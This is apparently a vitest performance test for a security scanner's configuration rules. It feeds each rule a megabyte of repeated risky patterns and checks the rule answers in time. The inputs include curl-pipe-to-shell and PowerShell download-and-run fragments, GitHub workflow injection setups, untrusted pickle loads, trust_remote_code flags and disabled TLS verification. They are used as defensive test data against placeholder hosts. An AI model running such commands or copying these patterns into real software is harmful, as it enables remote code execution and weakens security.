import { describe, expect, it } from 'vitest'
import { fileOf } from '../../../test/support/file-of.ts'
import { matchAny } from '../../base/glob.ts'
import { isExpected } from '../../base/errors.ts'
import type { BomRule, FileRule } from '../../model/rule.ts'
import * as registry from '../rules.ts'

const RULES = Object.values<FileRule | BomRule>(registry).filter(
  (rule): rule is FileRule => 'files' in rule && rule.id.startsWith('configuration/'),
)
const MEGABYTE = 1024 * 1024

function times(text: string): string {
  return text.repeat(Math.ceil(MEGABYTE / text.length)).slice(0, MEGABYTE)
}

/** The nastiest megabyte we could think of for each kind of file. */
const HOSTILE: readonly (readonly [name: string, path: string, text: string])[] = [
  ['pipes', 'a.sh', times('curl x | ')],
  ['substitutions', 'a.sh', times('sh -c "$(curl $(curl ')],
  ['downloads of one file', 'a.sh', times('wget http://a.example/x; sh x\n')],
  ['words', 'a.sh', `curl ${times('-k ')}| sh`],
  ['evaluations', 'a.ps1', times('iex ((iwr ')],
  [
    'expressions',
    '.github/workflows/a.yml',
    `on: issues\njobs:\n  a:\n    steps:\n      - run: '${times('${{ github.event.issue.title ').replaceAll("'", '')}'\n`,
  ],
  [
    'truths',
    '.github/workflows/a.yml',
    `on: issues\njobs:\n  a:\n    steps:\n      - run: "${times('${{ ====!=!=!=contains(|& }}')}"\n`,
  ],
  [
    'steps',
    '.github/workflows/a.yml',
    `on: issues\njobs:\n  a:\n    steps:\n${times('      - uses: a/b@c\n').replace(/[^\n]*$/, '')}`,
  ],
  [
    'guards',
    '.github/workflows/a.yml',
    `on: pull_request_target\njobs:\n  a:\n    if: "${times('head.repo.full_name == ')}"\n    steps: [{run: "gh pr checkout ${'git fetch '.repeat(9000)}"}]\n`,
  ],
  ['options', 'requirements.txt', times('--extra-index-url https://a:b@')],
  ['hosts', '.npmrc', times('registry=http://a@a@a@')],
  ['keys', '.npmrc', times('=\n')],
  ['calls', 'a.py', `import pickle\n${times('pickle.load(open(p))\n').replace(/[^\n]*$/, '')}`],
  [
    'openers in openers',
    'a.py',
    `import pickle, io\n${times('b = io.BytesIO(b); pickle.load(b)\n').replace(/[^\n]*$/, '')}`,
  ],
  [
    'paths',
    'a.py',
    `import pickle, requests\n${times('requests.get("x.pkl"); pickle.load("y.pkl")\n').replace(/[^\n]*$/, '')}`,
  ],
  ['keys of dictionaries', 'a.py', times('"trust_remote_code"  :         ')],
  ['flags', 'a.yaml', times('--trust-remote-code ')],
  ['indented flags', 'a.yaml', times(`${' '.repeat(299)}trust_remote_code: t\n`)],
  ['cells', 'a.ipynb', JSON.stringify({ cells: [{ cell_type: 'code', source: `torch.load\n${times('!a \\\n')}` }] })],
  [
    'assignments of magics',
    'a.ipynb',
    JSON.stringify({ cells: [{ cell_type: 'code', source: times(`${'a, '.repeat(90)}\n!`) }] }),
  ],
  ['bases', 'Dockerfile', times('FROM a AS b\nFROM b\nARG x=$x\nFROM ${x}${x}\n')],
  ['additions', 'Dockerfile', `FROM a\nADD ${times('http://')}`],
  ['recipes', 'Makefile', `a:\n${times('\tx \\\n')}`],
  ['dollars', 'Makefile', `a:\n\t${times('$$')}`],
  ['prompts', 'README.md', `\`\`\`\n${times('$ > $ curl http://a | sh\n')}`],
  [
    'entries',
    'package-lock.json',
    `{"packages":{${Array.from({ length: 12_000 }, (_, i) => `"node_modules/a${i}":{"resolved":"http://h${i}.example/@x/y/-/y-1.tgz"}`).join()}}}`,
  ],
  [
    'names',
    'package-lock.json',
    `{"packages":{"node_modules/a":{"resolved":"https://h.example/${times('@a/b/-/')}"}}}`,
  ],
  [
    'conditions',
    '.github/workflows/a.yml',
    `on: pull_request_target\njobs:\n  a:\n    if: "${times("${{ contains('a', github.actor == ").replaceAll('"', '')}"\n`,
  ],
  [
    'downloads of artifacts',
    '.github/workflows/a.yml',
    `on: workflow_run\njobs:\n  a:\n    steps:\n${times('      - {uses: actions/download-artifact@v4, with: {run-id: 1, path: " . "}}\n').replace(/[^\n]*$/, '')}`,
  ],
  [
    'uploads behind checkouts',
    '.github/workflows/a.yml',
    `on: push\njobs:\n  a:\n    steps:\n${times('      - {uses: actions/checkout@v4, with: {path: a}}\n      - {uses: actions/upload-artifact@v3, with: {path: b}}\n').replace(/[^\n]*$/, '')}`,
  ],
  [
    'lines for the environment',
    '.github/workflows/a.yml',
    `on: issues\njobs:\n  a:\n    steps:\n      - run: |\n${times('          echo "$(go env $HOME ${{ runner." >> $GITHUB_ENV\n')}`,
  ],
  [
    'caches',
    '.github/workflows/a.yml',
    `on: push\njobs:\n  a:\n    steps:\n${times('      - uses: actions/cache@v4\n').replace(/[^\n]*$/, '')}      - run: npm publish\n`,
  ],
  ['switches of certificates', 'a.ts', times('rejectUnauthorized  :   rejectUnauthorized: false\n')],
  ['comments', 'a.js', times('a;// {// rejectUnauthorized: false\n')],
  ['unverified calls', 'a.py', `import requests\n${times('requests.get(u, verify=False)\n').replace(/[^\n]*$/, '')}`],
  [
    'images',
    'compose.yaml',
    `services:\n${Array.from({ length: 20_000 }, (_, i) => `  a${i}: {image: "\${A:-\${B:-x}}:\${C:-1}"}`).join('\n')}\n`,
  ],
  ['hooks', '.pre-commit-config.yaml', `repos:\n${times('  - {repo: a, rev: main}\n').replace(/[^\n]*$/, '')}`],
  ['includes', '.gitlab-ci.yml', `include:\n${times('  - remote: http://a.example/\n').replace(/[^\n]*$/, '')}`],
]

describe('a megabyte of it', () => {
  it.each(HOSTILE)('%s: answered in time', { timeout: 20_000 }, async (_, path, text) => {
    const file = fileOf(path, text)
    const rules = RULES.filter((rule) => matchAny(rule.files)(path))
    expect(rules.length).toBeGreaterThan(0)
    const start = performance.now()
    for (const rule of rules) {
      try {
        for await (const observation of rule.inspect(file)) {
          expect(observation.evidence.length).toBeLessThanOrEqual(20)
          expect(JSON.stringify(observation).length).toBeLessThan(20_000)
        }
      } catch (error) {
        expect(isExpected(error), String(error)).toBe(true)
      }
    }
    // The slowest takes below a second alone; the machine may be busy.
    expect(performance.now() - start).toBeLessThan(8000)
  })
})
